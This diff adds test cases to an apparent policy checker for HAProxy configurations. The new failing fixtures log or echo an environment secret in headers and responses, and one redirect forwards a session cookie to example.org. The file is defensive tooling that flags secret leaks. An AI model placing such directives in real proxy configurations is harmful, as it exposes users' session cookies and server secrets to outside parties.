@@ -57,6 +57,20 @@ export const listening: Record<string, PolicyCases> = {
       "a log of traffic secrets": first("log-format %[ssl_fc_server_traffic_secret_0]"),
       "a log of queries": first("log-format '%(query)HQ'"),
       "a log of whole requests": first('log-format "%{+Q}r"'),
+      "a log of a variable": first("log-format %[var(txn.kept)]"),
+      "a log of the environment": first("log-format '%(of)[env(SECRET)]'"),
+      "a log of a path with its query": first("log-format %HU"),
+      "a cookie as the name of a host": inFrontend("http-request set-var(txn.host) req.cook(session)"),
+      "a header that tells a secret": inFrontend("http-after-response set-header X-Key %[env(SECRET)]"),
+      "an answer that tells a secret": inFrontend(
+        "http-request return status 200 content-type text/plain lf-string %[env(SECRET)]",
+      ),
+      "an answer's header that tells a secret": inFrontend(
+        "http-request return status 200 content-type text/plain string ok hdr X-Key %[env(SECRET)]",
+      ),
+      "a cookie sent elsewhere": inFrontend(
+        "http-request redirect location https://example.org/?c=%[req.cook(session)] code 302",
+      ),
       "HAProxy's own log of requests": first("option httplog"),
       "a captured cookie": inFrontend("capture cookie session len 64"),
       "captured headers": inFrontend("http-request capture req.hdr(authorization) len 64"),
@@ -82,6 +96,8 @@ export const listening: Record<string, PolicyCases> = {
     },
     pass: {
       "a page for errors": first('http-error status 503 content-type "text/html" file /etc/haproxy/503.html'),
+      "a fixed header": inFrontend("http-after-response set-header X-Frame-Options DENY"),
+      "a fixed way on": inFrontend("http-request redirect location https://localhost/ code 302"),
       "an answer in words": inFrontend('http-request return status 404 content-type text/plain string "No."'),
       "a log of paths": first("log-format '%(time)T %(client)ci %(path)HPO %(retries)rc'"),
       "the engine's name service": cfg(
